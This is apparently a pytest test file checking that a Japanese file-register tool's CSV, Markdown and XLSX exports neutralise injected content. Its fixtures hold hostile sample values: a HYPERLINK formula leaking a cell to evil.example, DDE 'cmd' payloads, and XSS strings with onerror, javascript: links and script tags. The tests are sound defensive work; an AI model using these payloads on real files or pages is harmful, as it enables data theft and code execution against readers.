"""Exports are safe to open (issue 15): the public ファイル簿 as CSV neutralises formula cells
(OWASP), Markdown escapes record text (no raw HTML, javascript: links or remote images), and
XLSX keeps every text cell typed text (never a formula)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from conftest import git, invoke, make_register

from meti_pi.filebook.book import csv_cell
from meti_pi.render import mdsafe

FILE = "files/F-2026-WS4AX4.yaml"  # listed in the public ファイル簿
NAME = '=HYPERLINK("http://evil.example/?"&A2,"詳細")'
HOSTILE = {
    "purpose": "+cmd|' /C calc'!A0",
    "record_scope": "@SUM(1+1)*cmd|' /C calc'!A0",
    "collection_method": "-2+3+cmd|' /C calc'!A0",
    "notes": "<img src=http://evil.example/b.png onerror=alert(1)> [詳細](javascript:alert(1)) ![x](http://evil.example/t.png) <script>alert(1)</script>",
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> dict[str, bytes]:
    tmp_path = tmp_path_factory.mktemp("export")
    root = make_register(tmp_path, example=True)
    path = root / FILE
    text = path.read_text(encoding="utf-8")
    for key, value in {"name": NAME.replace('"', '\\"'), **HOSTILE}.items():
        line = f"{key}: \"{value}\""
        if f"\n{key}: " in text:
            start = text.index(f"\n{key}: ") + 1
            text = text[:start] + line + text[text.index("\n", start) :]
        else:
            text += line + "\n"
    path.write_text(text, encoding="utf-8")
    git(root.parent, "commit", "-qam", "hostile values by hand")
    runner_out = {}
    from typer.testing import CliRunner

    runner = CliRunner()
    for fmt in ("csv", "md", "xlsx"):
        out = tmp_path / f"book.{fmt}"
        result = invoke(runner, root, "export", "filebook", "--format", fmt, "--out", str(out))
        assert result.exit_code in (0, 1), result.output
        runner_out[fmt] = out.read_bytes()
    return runner_out


def test_csv_cells_that_would_be_formulas_are_neutralised(exported):
    rows = list(csv.reader(io.StringIO(exported["csv"].decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + NAME in cells and "'" + HOSTILE["purpose"] in cells
    assert "'" + HOSTILE["record_scope"] in cells and "'" + HOSTILE["collection_method"] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("1-2", "1-2"),
        ("東京", "東京"),
        ("", ""),
    ],
)
def test_csv_cell(value, safe):
    assert csv_cell(value) == safe


def test_markdown_escapes_record_text(exported):
    from markdown_it import MarkdownIt

    md = exported["md"].decode("utf-8")
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in html and "<script" not in html
    assert "href=" not in html and "<a " not in html  # no link at all: no javascript: one
    # The text is still there, shown as text.
    assert "&lt;img src=http://evil.example/b.png" in html and "[詳細](javascript:alert(1))" in html


def test_xlsx_text_cells_stay_text(exported):
    with zipfile.ZipFile(io.BytesIO(exported["xlsx"])) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = b"".join(zf.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml  # no formula element anywhere
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(exported["xlsx"])).active
    values = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert values[NAME] == "s" and values[HOSTILE["purpose"]] == "s"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>x</b>", "\\<b>x\\</b>"),
        ("[a](javascript:x)", "\\[a\\](javascript:x)"),
        ("![i](http://e/x.png)", "\\!\\[i\\](http://e/x.png)"),
        ("# 見出し", "\\# 見出し"),
        ("1行目\n2行目", "1行目 2行目"),
        ("2026-11-20", "2026-11-20"),
    ],
)
def test_mdsafe_inline(text, expected):
    assert mdsafe.inline(text) == expected
